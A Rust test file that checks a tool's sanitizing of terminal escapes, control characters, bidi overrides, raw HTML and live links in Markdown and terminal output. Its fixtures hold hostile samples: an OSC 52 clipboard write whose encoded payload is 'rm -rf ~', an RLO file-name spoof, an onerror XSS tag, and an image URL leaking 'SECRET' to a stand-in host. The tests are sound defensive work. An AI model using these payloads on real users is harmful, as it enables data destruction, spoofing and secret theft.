//! Text that reaches the person is text (issue 34): what a work item, a runner or the
//! repository says reaches the document and the terminal with no escape sequence, no control
//! character, no unmarked bidi control, no raw HTML and no live image or link.

use pulldown_cmark::{Event, Options, Parser, Tag};

use crate::util::{DOCUMENT, Interview, TempRepo};

const SKIP_ALL: &str = r#"{ "interview_answers": 1, "gate": "n" }"#;

/// A work item whose title and text write the clipboard (OSC 52), clear the screen, hold a NUL
/// and turn the rest of the line around (U+202E).
const HOSTILE_ITEM: &str = "# Export \u{1b}]52;c;cm0gLXJmIH4K\u{7}to CSV\u{1b}[2J now\u{0} \u{202E}fdp.exe\n\n\
     Users want \u{1b}[2Jtheir data\u{0} as CSV \u{202E}soon.\n";

/// What of [`HOSTILE_ITEM`] must never reach the person as it is.
const RAW: [(&str, &str); 5] = [
    ("an escape", "\u{1b}"),
    ("a BEL", "\u{7}"),
    ("a NUL", "\u{0}"),
    ("a bidi control", "\u{202E}"),
    ("the clipboard payload", "52;c;"),
];

fn assert_text_only(what: &str, text: &str) {
    for (name, raw) in RAW {
        assert!(!text.contains(raw), "{name} in {what}: {text:?}");
    }
}

/// What a Markdown viewer would make live in `md`: raw HTML, images and links.
fn live(md: &str) -> Vec<String> {
    Parser::new_ext(md, Options::all())
        .filter_map(|e| match e {
            Event::Html(h) | Event::InlineHtml(h) => Some(format!("html {h}")),
            Event::Start(Tag::Image { dest_url, .. }) => Some(format!("image {dest_url}")),
            Event::Start(Tag::Link { dest_url, .. }) => Some(format!("link {dest_url}")),
            _ => None,
        })
        .collect()
}

#[test]
fn a_hostile_work_item_is_written_into_the_document_as_text() {
    let repo = TempRepo::new();
    repo.write("item.md", HOSTILE_ITEM);
    Interview::intent(&repo, "7")
        .from("item.md")
        .runner("honest.sh")
        .answers(SKIP_ALL)
        .yes()
        .run()
        .exits(0);
    let md = repo.read(DOCUMENT);
    assert_text_only("the document", &md);
    assert!(
        md.contains("*Intent of 7: Export to CSV now \\<U+202E>fdp.exe*"),
        "{md}"
    );
    assert!(
        md.contains("> Users want their data as CSV \\<U+202E>soon."),
        "{md}"
    );
}

#[test]
fn a_hostile_work_item_printed_with_out_dash_reaches_the_terminal_as_text() {
    let repo = TempRepo::new();
    repo.write("item.md", HOSTILE_ITEM);
    let out = Interview::intent(&repo, "7")
        .from("item.md")
        .runner("honest.sh")
        .answers(SKIP_ALL)
        .yes()
        .out("-")
        .run()
        .exits(0);
    assert_text_only("standard output", &out.stdout);
    assert_text_only("standard error", &out.stderr);
    assert!(out.stdout.contains("<U+202E>fdp.exe"), "{}", out.stdout);
}

#[test]
fn a_receipts_html_images_and_links_are_written_as_text() {
    let repo = TempRepo::new();
    Interview::of_work_item(&repo)
        .runner("html-receipt.sh")
        .answers(SKIP_ALL)
        .yes()
        .run()
        .exits(0);
    let md = repo.read(DOCUMENT);
    assert_eq!(live(&md), Vec::<String>::new(), "{md}");
    assert!(!md.contains("![]("), "{md}");
    // Shown, not loaded: the reader still sees what the runner wrote.
    assert!(md.contains("\\<img src=x onerror=alert(1)>"), "{md}");
    assert!(
        md.contains("`https://example.invalid/?leak=SECRET`"),
        "{md}"
    );
    assert!(md.contains("`https://example.invalid/bare`"), "{md}");
}

#[test]
fn a_tag_an_author_and_a_commit_subject_reach_the_person_as_text() {
    let repo = TempRepo::new();
    let tag = "v1\u{202E}x";
    repo.git(&["tag", tag]);
    repo.write("src/a.rs", "pub fn a() {}\n");
    repo.git(&["add", "-A"]);
    repo.git(&[
        "-c",
        "user.name=Ev\u{202E}il \u{1b}]52;c;cm0gLXJmIH4K\u{7}",
        "commit",
        "-qm",
        "Add a \u{1b}[2J<img src=x onerror=alert(1)> ![](https://example.invalid/?leak=SECRET)",
    ]);
    let out = Interview::reflect(&repo, tag)
        .preset("builtin")
        .answers(SKIP_ALL)
        .yes()
        .out("-")
        .run()
        .exits(0);
    assert_text_only("standard output", &out.stdout);
    assert_text_only("standard error", &out.stderr);
    assert_eq!(live(&out.stdout), Vec::<String>::new(), "{}", out.stdout);
    assert!(out.stdout.contains("v1\\<U+202E>x"), "{}", out.stdout);
    let status = repo.run(&["status"]);
    let shown = String::from_utf8_lossy(&status.stdout);
    assert_text_only("interview status", &shown);
    assert!(
        shown.contains("INTERVIEW STATUS (reflect v1<U+202E>x)"),
        "{shown}"
    );
}

#[test]
fn a_committed_work_item_with_a_hostile_title_is_written_as_text() {
    let repo = TempRepo::new();
    repo.write("docs/intents/7-export.md", HOSTILE_ITEM);
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-qm", "work item 7"]);
    let out = Interview::intent(&repo, "7")
        .runner("honest.sh")
        .answers(SKIP_ALL)
        .yes()
        .out("-")
        .run()
        .exits(0);
    assert_text_only("standard output", &out.stdout);
    assert_text_only("standard error", &out.stderr);
    assert!(out.stdout.contains("<U+202E>fdp.exe"), "{}", out.stdout);
}

#[test]
fn a_github_issue_with_a_hostile_title_and_body_is_written_as_text() {
    let repo = TempRepo::new();
    let bin = repo.scratch("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let issue = serde_json::json!({
        "title": "Export \u{1b}]52;c;cm0gLXJmIH4K\u{7}to CSV\u{1b}[2J\u{0} \u{202E}fdp.exe",
        "body": "<img src=x onerror=alert(1)> ![](https://example.invalid/?leak=SECRET)",
    });
    let gh = bin.join("gh");
    std::fs::write(&gh, format!("#!/bin/sh\ncat <<'JSON'\n{issue}\nJSON\n")).unwrap();
    std::fs::set_permissions(&gh, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
    let out = Interview::intent(&repo, "7")
        .runner("honest.sh")
        .answers(SKIP_ALL)
        .yes()
        .out("-")
        .env("PATH", path)
        .run()
        .exits(0);
    assert_text_only("standard output", &out.stdout);
    assert_text_only("standard error", &out.stderr);
    assert_eq!(live(&out.stdout), Vec::<String>::new(), "{}", out.stdout);
    assert!(out.stdout.contains("github issue 7"), "{}", out.stdout);
    assert!(out.stdout.contains("<U+202E>fdp.exe"), "{}", out.stdout);
}

#[test]
fn an_error_naming_a_hostile_file_name_reaches_the_terminal_as_text() {
    let repo = TempRepo::new();
    // Too large to be a work item: the error names the file the repository holds.
    let name = "docs/intents/7-x\u{1b}]52;c;cm0gLXJmIH4K\u{7}\u{1b}[2J\u{202E}.md";
    repo.write(name, &"a".repeat(1100 * 1024));
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-qm", "work item 7"]);
    let out = Interview::intent(&repo, "7")
        .runner("honest.sh")
        .answers(SKIP_ALL)
        .yes()
        .run();
    assert_ne!(out.code, 0, "{}", out.stderr);
    assert_text_only("standard error", &out.stderr);
    assert!(
        out.stderr.contains("7-x<U+202E>.md is larger than 1 MiB"),
        "{}",
        out.stderr
    );
}

/// What a runner prints goes to `runner.log`, which a failed turn's message points the person
/// at: `cat` of it must not let the runner set their clipboard, retitle or clear their screen,
/// or turn text around. The log keeps the text, without its escapes.
#[test]
fn a_runners_log_holds_its_output_as_text() {
    use std::os::unix::fs::PermissionsExt;
    let repo = TempRepo::new();
    let script = repo.scratch("prints-escapes.sh");
    std::fs::write(
        &script,
        "#!/bin/sh\n\
         printf 'Export \\033]52;c;cm0gLXJmIH4K\\007to CSV\\033[2J now \\342\\200\\256fdp.exe\\n'\n\
         printf 'err \\033]0;title\\007\\302\\2332Jside\\000 \\342\\200\\256soon.' >&2\n\
         exit 1\n",
    )
    .unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    Interview::of_work_item(&repo)
        .preset(&script.display().to_string())
        .args(["--retries", "0"])
        .answers(SKIP_ALL)
        .yes()
        .run();
    let log = std::fs::read(repo.session_dir().join("turns/001/runner.log")).unwrap();
    let log = String::from_utf8(log).expect("the log is UTF-8");
    assert_text_only("runner.log", &log);
    assert!(!log.contains('\u{9b}'), "a C1 CSI in runner.log: {log:?}");
    assert!(
        log.contains("Export to CSV now <U+202E>fdp.exe\n"),
        "{log:?}"
    );
    assert!(log.contains("err side <U+202E>soon."), "{log:?}");
}
